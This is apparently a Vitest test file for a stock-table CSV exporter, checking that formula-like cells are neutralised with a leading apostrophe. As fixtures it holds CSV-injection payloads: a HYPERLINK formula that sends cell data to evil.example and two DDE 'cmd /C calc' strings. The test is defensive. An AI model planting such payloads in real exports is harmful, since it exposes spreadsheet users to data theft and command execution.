import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
// @ts-expect-error the viewer's browser module has no type declarations
import { csvText, inertCell } from '../../src/http/viewer/table.js'

const toCsv = csvText as (header: readonly string[], rows: readonly (readonly unknown[])[]) => string
const inert = inertCell as (cell: unknown) => string

const NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"和辰化学")'
const INDUSTRY = "@SUM(1+1)*cmd|' /C calc'!A0"
const THEME = "+cmd|' /C calc'!A0"

/** The export parsed back as a spreadsheet's CSV reader would split it (BOM dropped). */
const parsedBack = (text: string): string[][] => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true })

describe('CSV export of the plan tables', () => {
  it('neutralises the formula cells of a hostile name, industry and theme, and leaves numbers and plain text alone', () => {
    const text = toCsv(
      ['代码', '名称', '收盘', '涨跌', '行业', '题材', '变化'],
      [
        ['600519.SH', NAME, 1681.5, '-2.35%', INDUSTRY, THEME, '▲3 +1.2'],
        ['000001.SZ', '平安银行', -3, '+0.40%', '银行', '金融科技', '= +0.0'],
      ],
    )
    const [header, hostile, plain] = parsedBack(text) as [string[], string[], string[]]
    expect(header).toEqual(['代码', '名称', '收盘', '涨跌', '行业', '题材', '变化'])
    // each formula is text now: it begins with an apostrophe, the rest exactly as imported
    expect(hostile).toEqual(['600519.SH', `'${NAME}`, '1681.5', '-2.35%', `'${INDUSTRY}`, `'${THEME}`, '▲3 +1.2'])
    for (const cell of [...hostile, ...plain]) expect(cell).not.toMatch(/^[=@\t\r]|^[+-](?![\d.])/)
    expect(plain).toEqual(['000001.SZ', '平安银行', '-3', '+0.40%', '银行', '金融科技', "'= +0.0"])
    expect(Number(plain[2])).toBe(-3)
  })

  it('makes every cell OWASP names inert, a tab and a carriage return included, and no number', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(inert(`${start}1+cmd`)).toBe(`'${start}1+cmd`)
    for (const number of ['-1.25', '+2.35%', '1e-3', '-0.5E+2', '.5', '12']) expect(inert(number)).toBe(number)
    expect(inert(-7.5)).toBe('-7.5')
    expect(inert('贵州茅台')).toBe('贵州茅台')
    expect(inert(null)).toBe('')
    // a tab-led cell is quoted, so that a reader splitting on tabs cannot unquote it either
    expect(toCsv(['a'], [['\t=1']])).toBe('\uFEFFa\r\n"\'\t=1"\r\n')
  })
})
